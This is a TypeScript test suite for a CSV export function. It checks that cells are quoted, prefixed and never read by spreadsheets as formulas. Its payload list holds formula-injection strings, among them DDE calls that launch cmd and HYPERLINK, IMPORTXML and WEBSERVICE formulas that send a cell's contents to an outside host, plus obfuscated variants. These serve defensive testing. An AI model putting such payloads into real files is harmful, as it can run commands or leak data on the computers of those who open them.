import fc from 'fast-check';
import { csvCell, csvText } from './csv-text';

/** What has made spreadsheets run something, and what comes close to it. */
const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.com?x="&A1,"see")',
  '=WEBSERVICE("https://example.com")',
  '=IMPORTXML(CONCAT("https://example.com?v=",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\t1',
  '\r1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  ' ＝1+1',
  '\u0000=1+1',
  '\u001b=1+1',
  '";=1+1',
  '","=1+1',
  '"\r\n=1+1',
];

/** Cells as a spreadsheet reads them: quotes taken off, doubled ones made single. */
function cellsRead(line: string): string[] {
  return [...line.matchAll(/"((?:[^"]|"")*)"|(-?\d+)/g)].map(
    ([, text, number]) => text?.replaceAll('""', '"') ?? number ?? '',
  );
}

describe('a cell of CSV', () => {
  it.each(payloads)('%j stays text and stays one cell', (payload) => {
    const [cell, ...others] = cellsRead(csvCell(payload));
    expect(others).toEqual([]);
    expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
    expect(cell).not.toMatch(/^[\t\r\n]/);
  });

  it.each([
    ['3705115058471208928', `"'3705115058471208928"`],
    ['007', `"'007"`],
    ['小王', '"小王"'],
    ['say "hi", twice', '"say ""hi"", twice"'],
    ['38.60', '"38.60"'],
    ['−38.60', '"−38.60"'],
    ['', '""'],
    [-3860, '-3860'],
    [0, '0'],
  ])('%j is written as %s', (cell, written) => {
    expect(csvCell(cell)).toBe(written);
  });

  it.each([NaN, Infinity, -Infinity, 0.5, 2 ** 53, 1e21])('refuses %d', (cell) => {
    expect(() => csvCell(cell)).toThrow('a cell is a whole number');
  });

  it.each([{ formula: '=1+1' }, null, undefined, new Date(0), [1]])(
    'refuses %j, which is no text and no number',
    (cell) => {
      expect(() => csvCell(cell as unknown as string)).toThrow('a cell is text or a number');
    },
  );

  it('of any text never starts a formula', () => {
    const text = fc.string({ unit: 'binary', maxLength: 12 });
    const nearFormula = fc.tuple(
      fc.constantFrom('', ' ', '\t', '\u0000', "'"),
      fc.constantFrom('=', '-', '＠', '"'),
      text,
    );
    fc.assert(
      fc.property(
        fc.oneof(
          text,
          nearFormula.map((parts) => parts.join('')),
        ),
        (payload) => {
          expect(csvCell(payload)).not.toMatch(/^"[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
        },
      ),
      { numRuns: Number(process.env.PROVE_RUNS ?? 1000) },
    );
  });
});

it('begins with a byte order mark and ends each row with a line break', () => {
  expect(
    csvText([
      ['序号', 1],
      ['a', 2],
    ]),
  ).toBe('\ufeff"序号",1\r\n"a",2\r\n');
});
